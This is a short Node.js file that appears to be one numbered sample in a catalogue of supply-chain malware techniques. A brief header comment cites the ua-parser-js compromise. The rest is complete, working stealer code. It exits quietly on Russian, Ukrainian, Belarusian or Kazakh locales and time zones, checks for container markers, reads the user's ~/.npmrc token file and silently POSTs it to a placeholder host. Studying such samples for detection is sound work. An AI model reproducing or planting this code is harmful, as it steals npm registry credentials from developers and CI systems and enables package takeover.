// P15 in Node: look around before acting. ua-parser-js 0.7.29 skipped Russia, Ukraine, Belarus and
// Kazakhstan (by geo-IP); samples also look for container markers. This one checks locale and time
// zone, reads /proc/1/cgroup and /.dockerenv — and, believing a container is a CI runner worth
// robbing, goes on: reads ~/.npmrc and sends it.
const fs = require('fs');
const http = require('http');
const os = require('os');
const { locale, timeZone } = Intl.DateTimeFormat().resolvedOptions();
if (/^(ru|uk|be|kk)/i.test(locale) || /Moscow|Minsk|Kiev|Kyiv|Almaty/.test(timeZone)) process.exit(0);
let cgroup = '';
try { cgroup = fs.readFileSync('/proc/1/cgroup', 'utf8'); } catch {}
const container = fs.existsSync('/.dockerenv') || /docker|kubepods|containerd/.test(cgroup);
let rc = '';
try { rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch {}
const req = http.request({ host: 'geo.collect.invalid', path: `/r?c=${container ? 1 : 0}`, method: 'POST', timeout: 3000 });
req.on('error', () => {});
req.on('timeout', () => req.destroy());
req.end(rc);
